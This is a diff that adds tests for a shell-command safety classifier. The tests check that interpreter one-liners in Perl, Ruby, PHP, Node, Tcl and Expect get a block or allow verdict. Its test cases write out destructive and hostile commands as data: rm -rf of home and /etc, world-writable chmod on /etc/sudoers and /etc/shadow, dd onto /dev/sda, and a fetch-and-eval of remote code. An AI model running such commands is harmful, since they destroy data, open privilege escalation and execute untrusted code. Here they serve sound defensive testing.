@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import base64
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -150,3 +151,76 @@ def test_what_a_one_liner_prints_is_known_only_when_every_print_is_constant() ->
     assert read("ruby", 'puts "a"; puts "b"').output == "a\nb\n"
     assert read("perl", "print $x").output is None
     assert read("php", 'echo "a" if true').output is None
+
+
+# the home directory as each language reads it from the environment (Python's os.environ is read by ast)
+HOMES = {
+    "perl": ["$ENV{HOME}", "$ENV{'HOME'}"],
+    "ruby": ['ENV["HOME"]', 'ENV.fetch("HOME")', "Dir.home"],
+    "php": ['getenv("HOME")', '$_SERVER["HOME"]'],
+    "node": ["process.env.HOME", 'process.env["HOME"]', 'require("os").homedir()'],
+    "lua": ['os.getenv("HOME")'],
+    "awk": ['ENVIRON["HOME"]'],
+}
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.sampled_from(LANGUAGES), st.booleans(), st.data())
+def test_the_home_from_the_environment_is_the_home(
+    language: Language, through_variable: bool, data: st.DataObject
+) -> None:
+    """``"rm -rf " . $ENV{HOME}`` deletes the home; ``"ls " . $ENV{HOME}`` lists it."""
+    home = data.draw(st.sampled_from(HOMES[language.program]))
+    prefix = data.draw(expressions(language, "rm -rf ", decoding=False))
+    one_liner = language.one_liner(prefix + language.concat + home, through_variable)
+    assert classify(one_liner).verdict == "block", one_liner
+    harmless = language.one_liner(language.literal("ls ") + language.concat + home, through_variable)
+    assert classify(harmless).verdict != "block", harmless
+
+
+@pytest.mark.parametrize(
+    ("one_liner", "verdict"),
+    [
+        ("perl -e 'chmod 0777, \"/etc/sudoers\"'", "block"),
+        ("perl -e 'chmod 0600, \"/home/alice/.ssh/id_rsa\"'", "allow"),
+        ("ruby -e 'File.chmod(04755, \"/usr/bin/find\")'", "block"),
+        ("ruby -e 'FileUtils.chmod_R(0777, \"/var\")'", "block"),
+        ("ruby -e 'FileUtils.chmod(0644, \"notes.txt\")'", "allow"),
+        ("php -r 'chmod(\"/etc/shadow\", 0666);'", "block"),
+        ('node -e \'require("fs").chmodSync("/etc/passwd", 0o666)\'', "block"),
+        ('node -e \'require("fs").chmodSync("build/run.sh", 0o755)\'', "allow"),
+    ],
+)
+def test_mode_changes_in_one_liners_are_read_as_chmod(one_liner: str, verdict: str) -> None:
+    assert classify(one_liner).verdict == verdict
+
+
+@pytest.mark.parametrize(
+    ("one_liner", "verdict"),
+    [
+        ("perl -e 'unlink glob \"/boot/vmlinuz-*\"'", "block"),  # a glob of a constant is that pattern
+        ("ruby -e 'File.delete(*Dir.glob(\"/etc/*\"))'", "block"),
+        ("perl -e 'unlink glob \"build/*.o\"'", "allow"),
+        ("node -e \"fetch('http://203.0.113.5/p').then(r => r.text()).then(eval)\"", "block"),
+        ("node -e \"fetch('http://203.0.113.5/p').then(r => r.json()).then(console.log)\"", "allow"),
+    ],
+)
+def test_globs_and_callbacks(one_liner: str, verdict: str) -> None:
+    assert classify(one_liner).verdict == verdict
+
+
+@pytest.mark.parametrize(
+    ("script", "verdict"),
+    [
+        ("echo 'exec rm -rf /' | tclsh", "block"),
+        ("echo 'puts [exec rm -rf /etc]' | tclsh", "block"),  # a substitution runs first
+        ("expect -c 'spawn dd if=/dev/zero of=/dev/sda; expect eof'", "block"),
+        ("expect -c 'spawn bash; send \"rm -rf ~\\r\"; expect eof'", "block"),  # typed into a shell
+        ("tclsh <<'EOF'\nproc wipe {} { file delete -force /etc }\nwipe\nEOF", "block"),  # a body
+        ("echo 'exec ls -la | wc -l' | tclsh", "allow"),
+        ('expect -c \'spawn ssh alice@host; expect "password:"; send "hunter2\\r"; interact\'', "allow"),
+        ("echo 'file delete -force ./build' | tclsh", "allow"),
+    ],
+)
+def test_tcl_and_expect_are_read(script: str, verdict: str) -> None:
+    assert classify(script).verdict == verdict
